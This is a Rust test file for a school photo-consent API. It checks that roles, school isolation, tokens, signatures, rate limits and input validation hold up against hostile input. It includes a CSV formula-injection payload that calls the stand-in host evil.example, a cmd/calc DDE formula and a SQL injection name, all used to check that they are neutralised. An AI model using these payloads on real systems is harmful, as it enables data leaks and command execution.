//! Roles, schools and hostile input: who reaches what, and what bad input gets.
#![allow(clippy::unwrap_used)]

use consent_protocol::*;
use consent_tests::*;
use reqwest::{Method, StatusCode};
use serde_json::{json, Value};

/// Who may call each staff endpoint.
const ADMIN: &[&str] = &["admin"];
const PUBLISHERS: &[&str] = &["teacher", "communications"];
const AUDITORS: &[&str] = &["communications"];
const REPORTERS: &[&str] = &["admin", "communications"];
const ANY_STAFF: &[&str] = &["admin", "communications", "teacher"];

/// Every endpoint that needs a staff credential, with the roles allowed.
fn staff_endpoints(person: &str) -> Vec<(Method, String, &'static [&'static str])> {
    let zero_key = "0000000000000000";
    vec![
        (Method::GET, "/v1/school".into(), ANY_STAFF),
        (Method::PATCH, "/v1/school".into(), ADMIN),
        (Method::GET, "/v1/staff".into(), ADMIN),
        (Method::POST, "/v1/staff".into(), ADMIN),
        (Method::POST, "/v1/staff/999999/tokens".into(), ADMIN),
        (Method::DELETE, "/v1/tokens/999999".into(), ADMIN),
        (Method::GET, "/v1/people".into(), ANY_STAFF),
        (Method::POST, "/v1/people".into(), ADMIN),
        (Method::POST, "/v1/people/import".into(), ADMIN),
        (Method::GET, format!("/v1/people/{person}"), ANY_STAFF),
        (Method::DELETE, format!("/v1/people/{}", "ab".repeat(16)), ADMIN),
        (Method::POST, format!("/v1/people/{person}/guardians"), ADMIN),
        (
            Method::POST,
            format!("/v1/people/{person}/enrollment-codes"),
            ADMIN,
        ),
        (Method::POST, format!("/v1/people/{person}/revocations"), ADMIN),
        (Method::POST, format!("/v1/keys/{zero_key}/revoke"), ADMIN),
        (Method::GET, "/v1/revocations".into(), ANY_STAFF),
        (Method::GET, "/v1/offline-keys".into(), ANY_STAFF),
        (Method::POST, "/v1/checks".into(), PUBLISHERS),
        (Method::POST, "/v1/scans".into(), PUBLISHERS),
        (Method::POST, "/v1/publications".into(), PUBLISHERS),
        (Method::GET, "/v1/publications".into(), AUDITORS),
        (Method::POST, "/v1/publications/999999/takedown".into(), AUDITORS),
        (Method::GET, "/v1/audit/log".into(), AUDITORS),
        (Method::GET, "/v1/channels".into(), ANY_STAFF),
        (Method::PUT, "/v1/channels/blog".into(), ADMIN),
        (Method::DELETE, "/v1/channels/blog".into(), ADMIN),
        (Method::GET, "/v1/audit/record".into(), AUDITORS),
        (Method::POST, "/v1/media/audit".into(), AUDITORS),
        (Method::POST, "/v1/media/takedowns".into(), AUDITORS),
        (Method::GET, "/v1/media/takedowns".into(), AUDITORS),
        (Method::POST, "/v1/media/takedowns/999999/done".into(), AUDITORS),
        (
            Method::GET,
            "/v1/reports/coverage?purpose=website".into(),
            REPORTERS,
        ),
    ]
}

async fn each_role_reaches_only_its_endpoints(db: Db) {
    let Some(server) = TestServer::start(db).await else {
        return;
    };
    let admin = server.admin("De Linde").await;
    let callers = [
        ("admin", admin.clone()),
        ("communications", admin.staff("Cas", "communications").await),
        ("teacher", admin.staff("Tess", "teacher").await),
    ];
    let person = admin
        .person("student", "Sam", "3B", "2009-05-01")
        .await
        .to_string();
    let anonymous = server.anonymous();
    for (method, path, allowed) in staff_endpoints(&person) {
        let nobody = anonymous.send(method.clone(), &path, Some(json!({}))).await;
        assert_eq!(
            nobody.status,
            StatusCode::UNAUTHORIZED,
            "{method} {path} without a credential"
        );
        assert_eq!(nobody.code(), "unauthorized");
        let forged = anonymous.with_token("cst_not-a-real-token");
        assert_eq!(
            forged.send(method.clone(), &path, Some(json!({}))).await.status,
            StatusCode::UNAUTHORIZED
        );
        for (role, caller) in &callers {
            let answer = caller.send(method.clone(), &path, Some(json!({}))).await;
            assert!(
                answer.status.as_u16() < 500,
                "{method} {path} as {role}: {answer:?}"
            );
            if allowed.contains(role) {
                assert!(
                    answer.status != StatusCode::UNAUTHORIZED && answer.status != StatusCode::FORBIDDEN,
                    "{method} {path} as {role} was refused: {answer:?}"
                );
            } else {
                assert_eq!(
                    answer.status,
                    StatusCode::FORBIDDEN,
                    "{method} {path} as {role}: {answer:?}"
                );
            }
        }
    }
}

async fn one_school_never_sees_another_schools_data(db: Db) {
    let Some(server) = TestServer::start(db).await else {
        return;
    };
    let admin_a = server.admin("De Linde").await;
    let teacher_a = admin_a.staff("Tess", "teacher").await;
    let student_a = admin_a.person("student", "Sam", "3B", "2009-05-01").await;
    let phone_a = admin_a.enroll(student_a).await;
    let token_a = phone_a.consent().await;
    let checked = teacher_a
        .post(
            "/v1/checks",
            json!({"media_hash": media_hash(b"a"), "media_kind": "photo", "purpose": "website", "people": [student_a.to_string()]}),
        )
        .await;
    let receipt_a = checked.body["receipt_id"].clone();
    let published = teacher_a
        .post(
            "/v1/publications",
            json!({"receipt_id": receipt_a, "channel": "website"}),
        )
        .await;
    let publication_a = published.body["publication"].as_i64().unwrap();

    let admin_b = server.admin("Het Baken").await;
    let teacher_b = admin_b.staff("Bert", "teacher").await;
    let comms_b = admin_b.staff("Bea", "communications").await;
    let not_found = |answer: Answer, what: &str| {
        assert!(
            answer.status == StatusCode::NOT_FOUND || answer.status == StatusCode::BAD_REQUEST,
            "{what}: {answer:?}"
        );
    };
    not_found(
        teacher_b.get(&format!("/v1/people/{student_a}")).await,
        "read a person",
    );
    assert!(!teacher_b.get("/v1/people").await.body.to_string().contains("Sam"));
    not_found(
        admin_b
            .send(Method::DELETE, &format!("/v1/people/{student_a}"), None)
            .await,
        "erase a person",
    );
    not_found(
        admin_b
            .post(&format!("/v1/keys/{}/revoke", phone_a.key_id()), json!({}))
            .await,
        "cut off a device",
    );
    not_found(
        admin_b
            .post(&format!("/v1/people/{student_a}/enrollment-codes"), json!({}))
            .await,
        "make an enrollment code",
    );
    not_found(
        admin_b
            .post(&format!("/v1/people/{student_a}/revocations"), json!({}))
            .await,
        "revoke consent",
    );
    let by_id = teacher_b
        .post(
            "/v1/checks",
            json!({"media_hash": media_hash(b"b"), "media_kind": "photo", "purpose": "website", "people": [student_a.to_string()]}),
        )
        .await;
    assert_eq!(by_id.code(), "unknown_person", "{by_id:?}");
    let by_code = teacher_b
        .post(
            "/v1/checks",
            json!({"media_hash": media_hash(b"b"), "media_kind": "photo", "purpose": "website", "tokens": [token_a.to_text()]}),
        )
        .await;
    assert_eq!(by_code.code(), "other_school", "{by_code:?}");
    not_found(
        teacher_b
            .post(
                "/v1/publications",
                json!({"receipt_id": receipt_a, "channel": "website"}),
            )
            .await,
        "publish with another school's receipt",
    );
    not_found(
        comms_b
            .post(&format!("/v1/publications/{publication_a}/takedown"), json!({}))
            .await,
        "take down another school's publication",
    );
    assert_eq!(comms_b.get("/v1/publications").await.body, json!([]));
    let log_b = comms_b.get("/v1/audit/log").await.body.to_string();
    assert!(
        !log_b.contains(&student_a.to_string()),
        "school B's log names school A's student"
    );
    let keys_b = teacher_b.get("/v1/offline-keys").await.body;
    assert_eq!(keys_b["device_keys"], json!([]));
    let revocations_b = teacher_b.get("/v1/revocations").await.body;
    assert_eq!(revocations_b["revocations"], json!([]));
}

async fn staff_tokens_expire_and_can_be_revoked(db: Db) {
    let Some(server) = TestServer::start(db).await else {
        return;
    };
    let admin = server.admin("De Linde").await;
    let member = admin
        .post("/v1/staff", json!({"name": "Tess", "role": "teacher"}))
        .await;
    let id = member.body["id"].as_i64().unwrap();
    let issued = admin
        .post(&format!("/v1/staff/{id}/tokens"), json!({"valid_days": 1}))
        .await;
    let teacher = admin.with_token(issued.body["token"].as_str().unwrap());
    assert_eq!(teacher.get("/v1/school").await.status, StatusCode::OK);
    let revoked = admin
        .send(Method::DELETE, &format!("/v1/tokens/{}", issued.body["id"]), None)
        .await;
    assert_eq!(revoked.status, StatusCode::NO_CONTENT);
    assert_eq!(teacher.get("/v1/school").await.status, StatusCode::UNAUTHORIZED);
    let too_long = admin
        .post(&format!("/v1/staff/{id}/tokens"), json!({"valid_days": 5000}))
        .await;
    assert_eq!(too_long.code(), "bad_validity");
}

async fn forged_and_foreign_tokens_are_refused_and_change_nothing(db: Db) {
    let Some(server) = TestServer::start(db).await else {
        return;
    };
    let admin = server.admin("De Linde").await;
    let comms = admin.staff("Cas", "communications").await;
    let sam = admin.person("student", "Sam", "3B", "2009-05-01").await;
    let kim = admin.person("student", "Kim", "3B", "2009-05-01").await;
    let sam_phone = admin.enroll(sam).await;
    let kim_phone = admin.enroll(kim).await;
    let log_size = |answer: Answer| {
        SignedLogHead::from_text(answer.body["log_head"].as_str().unwrap())
            .unwrap()
            .unverified()
            .size
    };
    let before = log_size(comms.get("/v1/audit/log").await);

    // Kim signs a grant in Sam's name.
    let mut for_sam = kim_phone.grant(&[MediaKind::Photo], &[Purpose::WEBSITE]);
    for_sam.subject = sam;
    let for_sam = SignedGrant::sign(for_sam, &[&kim_phone.key]).unwrap();
    assert_eq!(kim_phone.submit(&for_sam).await.code(), "signer_not_authorized");
    // A grant altered after signing.
    let genuine = SignedGrant::sign(
        sam_phone.grant(&[MediaKind::Photo], &[Purpose::WEBSITE]),
        &[&sam_phone.key],
    )
    .unwrap();
    let mut altered = genuine.unverified().clone();
    altered.purposes = PurposeSet::new([Purpose::PRESS]).unwrap();
    let altered = SignedGrant::from_parts(altered, genuine.signatures().to_vec()).unwrap();
    assert_eq!(sam_phone.submit(&altered).await.code(), "bad_signature");
    // Text that is not a token at all.
    for junk in [
        "",
        "hello",
        "consent:",
        "consent:!!!",
        "consent:AAAA",
        &"consent:A".repeat(20_000),
    ] {
        let answer = sam_phone.api.post("/v1/grants", json!({"token": junk})).await;
        assert_eq!(
            answer.status,
            StatusCode::UNPROCESSABLE_ENTITY,
            "{junk:.40}: {answer:?}"
        );
        assert_eq!(answer.content_type, "application/problem+json");
    }
    // Kim revokes Sam's consent.
    let revocation = kim_phone.revocation(
        sam,
        RevocationScope::AllIssuedUpTo(consent_server::http::now()),
        Role::Subject,
    );
    let answer = kim_phone
        .api
        .post("/v1/revocations", json!({"revocation": revocation.to_text()}))
        .await;
    assert_eq!(answer.code(), "signer_not_authorized");
    // A device cut off by the school can no longer sign.
    let cut = admin
        .post(&format!("/v1/keys/{}/revoke", sam_phone.key_id()), json!({}))
        .await;
    assert_eq!(cut.status, StatusCode::NO_CONTENT);
    let before_cut_off = log_size(comms.get("/v1/audit/log").await);
    assert_eq!(sam_phone.submit(&genuine).await.code(), "revoked_key");
    assert_eq!(sam_phone.signed_get("/v1/me").await.code(), "revoked_key");
    assert_eq!(
        log_size(comms.get("/v1/audit/log").await),
        before_cut_off,
        "refusals change nothing"
    );
    assert_eq!(before_cut_off, before + 1, "only the cut-off was recorded");
}

/// A new one-time enrollment code for `person`, as its QR text.
async fn enrollment_code(admin: &Api, person: SubjectId) -> String {
    let code = admin
        .post(&format!("/v1/people/{person}/enrollment-codes"), json!({}))
        .await;
    code.body["qr_text"].as_str().unwrap().to_owned()
}

/// A device's public key, in hex, made from `seed`.
fn device_key(seed: u8) -> String {
    hex_of(&PublicKey::of(&SigningKey::from_bytes(&[seed; 32])).to_bytes())
}

async fn enrollment_codes_work_once_and_guessing_is_slowed(db: Db) {
    let Some(server) = TestServer::start(db).await else {
        return;
    };
    let admin = server.admin("De Linde").await;
    let sam = admin.person("student", "Sam", "3B", "2009-05-01").await;
    let code = enrollment_code(&admin, sam).await;
    let anonymous = server.anonymous();
    let first = anonymous
        .post("/v1/enroll", json!({"code": code, "public_key": device_key(1)}))
        .await;
    assert_eq!(first.status, StatusCode::CREATED, "{first:?}");
    let again = anonymous
        .post("/v1/enroll", json!({"code": code, "public_key": device_key(2)}))
        .await;
    assert_eq!(again.code(), "bad_enrollment_code");
    let weak = anonymous
        .post(
            "/v1/enroll",
            json!({"code": code, "public_key": format!("01{}", "00".repeat(31))}),
        )
        .await;
    assert_eq!(weak.code(), "weak_key");
    let mut limited = false;
    for attempt in 0..40u8 {
        let guess = anonymous
            .post(
                "/v1/enroll",
                json!({"code": format!("GUESS{attempt:05}"), "public_key": device_key(3)}),
            )
            .await;
        if guess.status == StatusCode::TOO_MANY_REQUESTS {
            limited = true;
            break;
        }
        assert_eq!(guess.code(), "bad_enrollment_code");
    }
    assert!(limited, "guessing enrollment codes is rate limited");
}

async fn one_guesser_cannot_lock_other_families_out_of_enrollment(db: Db) {
    let Some(server) = TestServer::start(db).await else {
        return;
    };
    let admin = server.admin("De Linde").await;
    let sam = admin.person("student", "Sam", "3B", "2009-05-01").await;
    let code = enrollment_code(&admin, sam).await;
    let guesser = server.anonymous_from([127, 0, 0, 2].into());
    let mut refused = None;
    for attempt in 0..40u8 {
        let guess = guesser
            .post(
                "/v1/enroll",
                json!({"code": format!("GUESS{attempt:05}"), "public_key": device_key(3)}),
            )
            .await;
        if guess.status == StatusCode::TOO_MANY_REQUESTS {
            refused = Some(guess);
            break;
        }
        assert_eq!(guess.code(), "bad_enrollment_code", "{guess:?}");
    }
    let refused = refused.expect("guessing from one address is rate limited");
    assert_eq!(refused.content_type, "application/problem+json");
    assert_eq!(refused.code(), "too_many_requests");
    assert_eq!(refused.body["status"], 429);
    let family = server.anonymous_from([127, 0, 0, 3].into());
    let enrolled = family
        .post("/v1/enroll", json!({"code": code, "public_key": device_key(1)}))
        .await;
    assert_eq!(enrolled.status, StatusCode::CREATED, "{enrolled:?}");
    let still = guesser
        .post(
            "/v1/enroll",
            json!({"code": "GUESS99999", "public_key": device_key(3)}),
        )
        .await;
    assert_eq!(still.code(), "too_many_requests");
}

async fn text_with_a_nul_character_is_refused_never_a_server_error(db: Db) {
    let Some(server) = TestServer::start(db).await else {
        return;
    };
    let admin = server.admin("De Linde").await;
    let teacher = admin.staff("Teacher", "teacher").await;
    admin.person("student", "Sam", "3B", "2009-05-01").await;
    let answers = [
        admin.get("/v1/people?group=3B%00").await,
        teacher
            .post(
                "/v1/checks",
                json!({"media_hash": "ab".repeat(32), "media_kind": "photo", "purpose": "website", "groups": ["3B\u{0}"]}),
            )
            .await,
        server
            .anonymous()
            .post(
                "/v1/enroll",
                json!({"code": "7K3M\u{0}", "public_key": "11".repeat(32)}),
            )
            .await,
    ];
    let codes = ["bad_query", "bad_field", "bad_enrollment_code"];
    for (answer, code) in answers.iter().zip(codes) {
        assert_eq!(answer.status, StatusCode::BAD_REQUEST, "{answer:?}");
        assert_eq!(answer.content_type, "application/problem+json", "{answer:?}");
        assert_eq!(answer.code(), code, "{answer:?}");
    }
}

async fn bad_input_gets_a_problem_document_never_a_crash(db: Db) {
    let Some(server) = TestServer::start(db).await else {
        return;
    };
    let admin = server.admin("De Linde").await;
    let url = |path: &str| format!("{}{path}", admin.base);
    let token = admin.token.clone().unwrap();
    let client = reqwest::Client::new();
    let send = |method: Method, path: &str, content_type: &str, body: Vec<u8>| {
        client
            .request(method, url(path))
            .bearer_auth(&token)
            .header("content-type", content_type.to_owned())
            .body(body)
            .send()
    };
    let unknown_person = format!("/v1/people/{}", "ab".repeat(16));
    /// Method, path, content type, body, expected status and code.
    type Case<'a> = (Method, &'a str, &'a str, Vec<u8>, StatusCode, &'a str);
    let cases: Vec<Case> = vec![
        (
            Method::POST,
            "/v1/people",
            "application/json",
            b"{not json".to_vec(),
            StatusCode::BAD_REQUEST,
            "bad_json",
        ),
        (
            Method::POST,
            "/v1/people",
            "text/plain",
            b"{}".to_vec(),
            StatusCode::UNSUPPORTED_MEDIA_TYPE,
            "unsupported_media_type",
        ),
        (
            Method::POST,
            "/v1/people",
            "application/json",
            br#"{"kind":"student","display_name":"A","extra":1}"#.to_vec(),
            StatusCode::BAD_REQUEST,
            "bad_json",
        ),
        (
            Method::POST,
            "/v1/people",
            "application/json",
            br#"{"kind":"student","display_name":"A","birth_date":"31-12-2010"}"#.to_vec(),
            StatusCode::BAD_REQUEST,
            "bad_birth_date",
        ),
        (
            Method::POST,
            "/v1/people",
            "application/json",
            format!("{}1{}", "[".repeat(10_000), "]".repeat(10_000)).into_bytes(),
            StatusCode::BAD_REQUEST,
            "bad_json",
        ),
        (
            Method::GET,
            "/v1/people/a%00b",
            "application/json",
            vec![],
            StatusCode::BAD_REQUEST,
            "bad_person_id",
        ),
        (
            Method::GET,
            &unknown_person,
            "application/json",
            vec![],
            StatusCode::NOT_FOUND,
            "not_found",
        ),
        (
            Method::POST,
            "/v1/staff/abc/tokens",
            "application/json",
            b"{}".to_vec(),
            StatusCode::BAD_REQUEST,
            "bad_path",
        ),
        (
            Method::GET,
            "/v1/nothing-here",
            "application/json",
            vec![],
            StatusCode::NOT_FOUND,
            "not_found",
        ),
        (
            Method::PUT,
            "/v1/school",
            "application/json",
            b"{}".to_vec(),
            StatusCode::METHOD_NOT_ALLOWED,
            "method_not_allowed",
        ),
        (
            Method::POST,
            "/v1/people/import",
            "text/csv",
            b"external_id,display_name\n1\n".to_vec(),
            StatusCode::BAD_REQUEST,
            "bad_csv",
        ),
        (
            Method::PATCH,
            "/v1/school",
            "application/json",
            br#"{"digital_consent_age":12}"#.to_vec(),
            StatusCode::BAD_REQUEST,
            "bad_consent_age",
        ),
    ];
    for (method, path, content_type, body, status, code) in cases {
        let response = send(method.clone(), path, content_type, body).await.unwrap();
        assert_eq!(response.status(), status, "{method} {path}");
        assert_eq!(
            response.headers()["content-type"].to_str().unwrap(),
            "application/problem+json",
            "{method} {path}"
        );
        let problem: Value = response.json().await.unwrap();
        assert_eq!(problem["code"], code, "{method} {path}: {problem}");
        assert_eq!(problem["status"], status.as_u16());
    }
    let teacher = admin.staff("Tess", "teacher").await;
    for (body, code) in [
        (
            json!({"media_hash": "00", "media_kind": "photo", "purpose": "website"}),
            "bad_media_hash",
        ),
        (
            json!({"media_hash": media_hash(b"x"), "media_kind": "hologram", "purpose": "website"}),
            "bad_media_kind",
        ),
        (
            json!({"media_hash": media_hash(b"x"), "media_kind": "photo", "purpose": "billboard"}),
            "bad_purpose",
        ),
        (
            json!({"media_hash": media_hash(b"x"), "media_kind": "photo", "purpose": "website"}),
            "no_people",
        ),
        (
            json!({"media_hash": media_hash(b"x"), "media_kind": "photo", "purpose": "website", "groups": ["9Z"]}),
            "unknown_group",
        ),
    ] {
        let answer = teacher.post("/v1/checks", body).await;
        assert_eq!((answer.status, answer.code()), (StatusCode::BAD_REQUEST, code));
    }
    // An oversized body is refused; the server may close the connection before
    // the client has sent it all, and either way stays up.
    match send(
        Method::POST,
        "/v1/people",
        "application/json",
        vec![b' '; 2 * 1024 * 1024],
    )
    .await
    {
        Ok(response) => {
            assert_eq!(response.status(), StatusCode::PAYLOAD_TOO_LARGE);
            let problem: Value = response.json().await.unwrap();
            assert_eq!(problem["code"], "payload_too_large");
        }
        Err(error) => assert!(error.is_request(), "{error}"),
    }
    assert_eq!(server.anonymous().get("/healthz").await.status, StatusCode::OK);
    // SQL meta-characters are data, nothing more.
    let name = "Robert'); DROP TABLE people;--";
    let bobby = admin.person("student", name, "3B'--", "2009-05-01").await;
    assert_eq!(
        admin.get(&format!("/v1/people/{bobby}")).await.body["display_name"],
        name
    );
    assert_eq!(
        admin
            .get("/v1/people?group=3B'--")
            .await
            .body
            .as_array()
            .unwrap()
            .len(),
        1
    );
}

async fn csv_cells_that_start_like_a_formula_reach_spreadsheets_as_text(db: Db) {
    let Some(server) = TestServer::start(db).await else {
        return;
    };
    let admin = server.admin("De Linde").await;
    let teacher = admin.staff("Tess", "teacher").await;
    let comms = admin.staff("Cas", "communications").await;
    let hyperlink = r#"=HYPERLINK("http://evil.example/?leak="&A1,"3B")"#;
    let calc = "@SUM(1+1)*cmd|' /C calc'!A0";
    let student = admin.person("student", calc, hyperlink, "2009-05-01").await;
    admin.person("student", "-2+3", "+31", "2009-05-01").await;

    let report = comms.get("/v1/reports/coverage?purpose=website&format=csv").await;
    let text = report.body.as_str().unwrap();
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let cells: Vec<Vec<String>> = reader
        .records()
        .map(|record| record.unwrap().iter().map(str::to_owned).collect())
        .collect();
    assert_eq!(
        cells,
        [
            vec![
                "'+31".to_owned(),
                "1".into(),
                "0".into(),
                "'-2+3 (no_consent)".into()
            ],
            vec![
                format!("'{hyperlink}"),
                "1".into(),
                "0".into(),
                format!("'{calc} (no_consent)")
            ],
            vec!["total".into(), "2".into(), "0".into(), String::new()],
        ]
    );

    // The publications CSV too: a URL is the publisher's text.
    admin.enroll(student).await.consent().await;
    let checked = teacher
        .post(
            "/v1/checks",
            json!({"media_hash": media_hash(b"p"), "media_kind": "photo", "purpose": "website", "people": [student.to_string()]}),
        )
        .await;
    let published = teacher
        .post(
            "/v1/publications",
            json!({"receipt_id": checked.body["receipt_id"], "channel": "website", "url": "=1+1"}),
        )
        .await;
    assert_eq!(published.status, StatusCode::CREATED, "{published:?}");
    let list = comms.get("/v1/publications?format=csv").await;
    let row = list.body.as_str().unwrap().lines().nth(1).unwrap().to_owned();
    assert!(row.contains(",'=1+1,"), "{row}");
}

on_both_databases!(
    csv_cells_that_start_like_a_formula_reach_spreadsheets_as_text,
    each_role_reaches_only_its_endpoints,
    one_school_never_sees_another_schools_data,
    staff_tokens_expire_and_can_be_revoked,
    forged_and_foreign_tokens_are_refused_and_change_nothing,
    enrollment_codes_work_once_and_guessing_is_slowed,
    one_guesser_cannot_lock_other_families_out_of_enrollment,
    text_with_a_nul_character_is_refused_never_a_server_error,
    bad_input_gets_a_problem_document_never_a_crash,
);
